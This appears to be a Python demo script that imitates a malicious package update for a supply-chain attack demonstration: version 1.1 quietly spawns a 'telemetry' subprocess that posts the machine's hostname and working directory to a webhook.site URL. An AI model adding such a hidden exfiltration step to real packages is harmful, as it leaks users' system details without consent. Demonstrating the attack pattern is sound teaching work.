"""A fake package's install step, in two versions, for the demo's second act.

    python package.py 1.0    fetches its index from pypi.org, as it says
    python package.py 1.1    the same, plus a "telemetry" helper that posts the
                             machine's hostname and cwd to a webhook

It only ever talks to the names of the demo's private world (examples/demo.py).
"""

import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request

TIMEOUT = 3


def fetch(url, data=None):
    try:
        with urllib.request.urlopen(url, data=data, timeout=TIMEOUT) as response:
            response.read()
            return "HTTP %d" % response.status
    except urllib.error.HTTPError as exc:  # the server answered: the data got out
        return "sent (HTTP %d)" % exc.code
    except OSError as exc:
        return "failed (%s)" % (getattr(exc, "reason", None) or exc)


def main(version):
    if version == "telemetry":
        data = ("%s %s" % (socket.gethostname(), os.getcwd())).encode()
        print("  telemetry: %s" % fetch("http://webhook.site/collect", data=data), flush=True)
        return 0
    print("left-pad-ng %s: index %s" % (version, fetch("http://pypi.org/files/simple/left-pad-ng/index.html")),
          flush=True)
    if version != "1.0":
        subprocess.call([sys.executable, os.path.abspath(__file__), "telemetry"])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1] if len(sys.argv) > 1 else "1.0"))
